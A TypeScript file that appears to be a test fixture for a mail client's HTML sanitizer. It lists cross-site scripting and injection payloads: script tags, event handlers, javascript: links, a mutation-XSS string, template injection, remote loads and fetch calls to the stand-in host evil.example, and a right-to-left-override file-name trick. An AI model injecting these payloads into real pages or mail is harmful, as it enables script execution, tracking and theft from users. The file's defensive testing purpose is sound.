const act = "parent.pwned=1;window.pwned=1;alert(1);fetch('https://evil.example/')";

/** What a hostile mail may hold, each in another way in: for the body, and for every name that is shown. */
export const ownPayloads: readonly string[] = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.parent.pwned=1;alert(1)</script>"></iframe>`,
  `<a href="javascript:${act}" autofocus onfocus="${act}">ici</a>`,
  `<form action="https://evil.example/"><input autofocus onfocus="${act}"><button formaction="javascript:${act}">x</button></form>`,
  `<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b.png)}</style>`,
  `<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x"><video poster="https://evil.example/p.png" src="https://evil.example/v"></video><audio src="https://evil.example/a"></audio>`,
  `<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><picture><source srcset="https://evil.example/s"></picture>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;"></mglyph></table></mtext></math>`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `"><script>${act}</script><"`,
  `'-${act}-'`,
  `{{constructor.constructor('${act}')()}}\${${act}}<%= ${act} %>`,
  `</title></textarea></style></script><script>${act}</script>`,
  `<table background="https://evil.example/t.png"><tr><td style="background:url('https://evil.example/c.png')">x</table>`,
  `\u202etxt.exe\u202c\u2066 <b>Zażółć</b> שלום 你好 🧨 \u0000`,
];
